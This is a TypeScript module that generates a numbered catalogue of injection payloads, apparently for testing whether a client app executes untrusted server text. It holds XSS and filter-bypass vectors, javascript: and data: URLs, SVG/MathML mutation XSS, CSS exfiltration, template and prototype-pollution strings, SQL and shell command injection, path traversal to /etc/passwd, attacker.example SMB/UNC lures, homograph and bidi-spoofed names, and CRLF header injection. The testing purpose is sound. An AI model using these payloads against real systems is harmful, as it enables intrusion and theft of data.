/** Text that a server may send in the hope that it is interpreted. */
export interface Payload {
  /** Identifies the payload in its effects. */
  number: number;
  text: string;
}

type Make = (run: string, address: string) => string;

/** For interpretation as HTML. */
const markup: Make[] = [
  ...['img', 'image', 'video', 'audio', 'input type=image', 'source', 'track', 'embed', 'iframe', 'script'].map(
    (tag): Make =>
      (run, address) =>
        `<${tag} src="${address}" onerror="${run}" onload="${run}">`,
  ),
  ...['body', 'svg', 'style', 'iframe', 'object', 'marquee', 'details open', 'frameset'].map(
    (tag): Make =>
      (run) =>
        `<${tag} onload="${run}" ontoggle="${run}" onstart="${run}" onpageshow="${run}">`,
  ),
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `"><script>${run}</script>`,
  (run) => `'><script>${run}</script>`,
  (run) => `--><script>${run}</script>`,
  (run) => `</title></textarea></style></noscript></template><script>${run}</script>`,
  (run) => `<<script>script>${run}<</script>/script>`,
  (run) => `<scr\0ipt>${run}</scr\0ipt>`,
  (run) => `<SCRIPT/XSS>${run}</SCRIPT>`,
  (run) => `<script type=module>${run}</script>`,
  (_run, address) => `<script type=module>import '${address}'</script>`,
  (_run, address) => `<script type=importmap>{"imports":{"react":"${address}"}}</script>`,
  (_run, address) => `<script src="${address}" async defer></script>`,
  (run) => `<img src=x onerror=${run}//`,
  (run) => `<img src=\`x\` onerror=${run}>`,
  (run) => `<img """><script>${run}</script>">`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<select autofocus onfocus="${run}"><option>`,
  (run) => `<button popovertarget=x onbeforetoggle="${run}">x</button><div popover id=x>`,
  (run) => `<div style="width:9999px;height:9999px;position:fixed;inset:0" onmouseover="${run}">`,
  (run) => `<div style="animation:x 1s" onanimationstart="${run}"><style>@keyframes x{}</style>`,
  (run) => `<x contenteditable onblur="${run}" onbeforeinput="${run}">`,
  (run) => `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  (run) => `' onfocus='${run}' autofocus x='`,
  (_run, address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (_run, address) =>
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><script src=${address}></script>`,
  (_run, address) => `<base href="${address}/">`,
  (_run, address) => `<form action="${address}"><button autofocus>go</button></form>`,
  (run) => `<form action="javascript:${run}"><input type=submit></form>`,
  (_run, address) => `<portal src="${address}"></portal>`,
  (_run, address) => `<webview src="${address}" nodeintegration></webview>`,
  (_run, address) => `<object data="${address}"></object>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<template shadowrootmode=open><script>${run}</script></template>`,
  (_run, address) => `<img srcset="${address} 1x, ${address} 2x">`,
  (_run, address) => `<picture><source srcset="${address}"><img></picture>`,
  (_run, address) => `<video poster="${address}" autoplay></video>`,
  (_run, address) => `<a ping="${address}" href="${address}" target=_blank autofocus>x</a>`,
  (_run, address) => `<table background="${address}"><td background="${address}">`,
  (_run, address) => `<html manifest="${address}">`,
  (_run, address) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]><x>&e;</x>`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `&#60;script&#62;${run}&#60;/script&#62;`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `＜script＞${run}＜/script＞`,
];

const links: Make[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => ` \u0001javascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `javascript://example.com/%0a${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `blob:app://keyfob/${run}`,
  (_run, address) => `view-source:${address}`,
  (_run, address) => address,
  (_run, address) => address.replace('http:', ''),
  (_run, address) => address.replace('http://', 'https://user:password@'),
  (_run, address) => `[click](${address})`,
  (_run, address) => `![x](${address})`,
  (run) => `[x](javascript:${run})`,
  (_run, address) => `<${address}>`,
  (_run, address) => `[x]: ${address}\n[x]`,
  () => 'file:///etc/passwd',
  () => 'file://attacker.example/share',
  () => '\\\\attacker.example\\share\\x.lnk',
  () => 'app://keyfob/../../etc/passwd',
  () => 'app.keyfob:/oauth/callback?code=x&state=y',
  () => 'smb://attacker.example/x',
  () => 'ms-msdt:/id PCWDiagnostic',
  () => 'search-ms:query=x&crumb=location:\\\\attacker.example',
  () => 'ssh://-oProxyCommand=touch%20x/x',
  () => 'https://аpple.com/login',
  () => 'https://example.com@attacker.example/',
  () => 'https://example.com\\@attacker.example/',
];

const drawings: Make[] = [
  (run) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  (run) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  (run) => `<svg><set onbegin="${run}" attributeName=x to=1></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><rect width=9999 height=9999></a></svg>`,
  (run) => `<svg><a><animate attributeName=href values="javascript:${run}"></a></svg>`,
  (_run, address) => `<svg xmlns="http://www.w3.org/2000/svg"><image href="${address}"/></svg>`,
  (_run, address) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="${address}#x"/></svg>`,
  (run) => `<svg><foreignObject><iframe src="javascript:${run}"/></foreignObject></svg>`,
  (_run, address) => `<svg><filter id=f><feImage href="${address}"></filter><rect filter="url(#f)"></svg>`,
  (_run, address) => `<svg><style>@import '${address}';</style></svg>`,
  (_run, address) => `<?xml-stylesheet href="${address}"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
  (run) => `<svg><![CDATA[><script>${run}</script>]]></svg>`,
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  (run) => `<math href="javascript:${run}">x</math>`,
  (run) => `<math><maction actiontype="statusline#javascript:${run}">x</maction></math>`,
  (run) => `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
];

const styles: Make[] = [
  (_run, address) => `<style>@import url("${address}");</style>`,
  (_run, address) => `<style>*{background:url("${address}")}</style>`,
  (_run, address) => `<link rel=stylesheet href="${address}">`,
  (_run, address) => `<link rel=prefetch href="${address}"><link rel=preconnect href="${address}">`,
  (_run, address) => `<link rel=dns-prefetch href="${address}"><link rel=icon href="${address}">`,
  (_run, address) => `<div style="background:url(${address})">x</div>`,
  (_run, address) => `";background:url(${address});x:"`,
  (_run, address) => `}body{background:url(${address})}x{`,
  (_run, address) => `<style>@font-face{font-family:x;src:url(${address})}*{font-family:x}</style>`,
  (_run, address) => `<style>input[value^=a]{background:url(${address})}</style>`,
  (run) => `<div style="width:expression(${run})">x</div>`,
  (run) => `<div style="-moz-binding:url(javascript:${run})">x</div>`,
  () => '<style>*{display:none!important}</style>',
  () => '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Enter your password</div>',
];

/** For template engines. */
const templates: Make[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{${run}}}`,
  (run) => `\${${run}}`,
  (run) => `\`\${${run}}\``,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `{%raw%}${run}{%endraw%}`,
  (run) => `[[${run}]]`,
  (run) => `<div ng-app ng-csp ng-init="${run}">`,
  (run) => `<x v-html="'<img src=x onerror=${run}>'" x-data="${run}">`,
  () => '{server}',
  () => '{server, plural, one {#} other {#}}',
  () => '{n, number, ::currency/USD}',
  () => "{server, select, other {'}'}",
  () => '{',
  () => '}}}{{{',
  () => "'{''}'",
  () => '<b>{server}</b><server></server>',
  () => '%s %d %n %x %1$s',
  () => "$& $1 $` $' $$",
];

/** Characters that are hidden, change the direction or disguise. */
const disguises: Make[] = [
  () => 'invoice\u202efdp.exe',
  () => '\u202dabc\u202c',
  () => '\u2066a\u2067b\u2068c\u2069',
  () => '\u200e\u200f\u061c',
  () => 'pay\u200bpal\u200c\u200d.com',
  () => '\ufeffbom\u2060joined\u00adhyphen',
  () => '\u{e0001}\u{e0041}\u{e0042}hidden tags\u{e007f}',
  () => '\ufff9a\ufffab\ufffb',
  () => 'a\u0000b',
  () => '\u0000',
  () => '\u0007\u0008\u000b\u000c\u007f',
  () => '\u001b[31mred\u001b[0m\u001b[2J\u001b]0;title\u0007',
  () => '\u001b]8;;https://attacker.example\u001b\\link\u001b]8;;\u001b\\',
  () => '\u0085\u009b31m\u009d',
  () => 'a\u2028b\u2029c',
  () => 'a\rb\r\nc',
  () => 'Set-Cookie: x\r\nLocation: https://attacker.example\r\n\r\n',
  () => '\ud800',
  () => '\udfff lone \ud83d',
  () => '\uffff\ufffe\u{1fffe}',
  () => '\ue000private\u{f0000}use\u{10fffd}',
  () => 'z\u0310\u0320'.repeat(5) + '\u0489'.repeat(2000),
  () => '\u3164\u115f\u1160\uffa0',
  () => '\u{1d173}music\u{1d17a}',
  () => 'Keyfob\u2800\u00a0\u2003says:\u3000all is well',
];

/** Large amounts. */
const masses: Make[] = [
  () => 'A'.repeat(100_000),
  () => 'é🦊'.repeat(33_000),
  () => 'word '.repeat(20_000),
  () => '\n'.repeat(20_000),
  () => '\u202e'.repeat(30_000),
  () => '<b>'.repeat(20_000),
  () => '['.repeat(20_000),
  () => '['.repeat(10_000) + ']'.repeat(10_000),
  () => `${'{"a":'.repeat(200)}1${'}'.repeat(200)}`,
  (run) => `<img alt="${'A'.repeat(65_536)}" src=x onerror="${run}">`,
  () => `${'a'.repeat(50)}!`.repeat(500),
];

/** Names that every object inherits. */
const names: Make[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'toJSON',
  'length',
  '$ref',
  'key',
  'ref',
  'children',
  'dangerouslySetInnerHTML',
].map((name) => () => name);

/** For other parsers than HTML's. */
const others: Make[] = [
  (run) => `{"__proto__":{"isAdmin":true,"run":"${run}"}}`,
  () => '{"constructor":{"prototype":{"x":1}}}',
  () => '{"\\u202eexe":"\\u0000\\u200b\\ud800"}',
  (run) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  (run) => `{"$$typeof":"react.element","type":"img","props":{"src":"x","onError":"${run}"}}`,
  () => '[1e400,-0,1E-400,99999999999999999999]',
  () => "'; DROP TABLE server; --",
  () => '$(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x | x & x',
  () => '../../../../etc/passwd\u0000.png',
  () => '*/ alert(1) /*',
  () => 'undefined',
  () => 'NaN',
  () => '[object Object]',
  () => '',
  () => ' ',
];

/** The payloads. Each would report its number by `ran(NUMBER)`, or by requesting `origin/NUMBER`. */
export function payloads(origin: string): Payload[] {
  const all = [markup, links, drawings, styles, templates, disguises, masses, names, others].flat();
  return all.map((make, number) => ({ number, text: make(`ran(${number})`, `${origin}/${number}`) }));
}
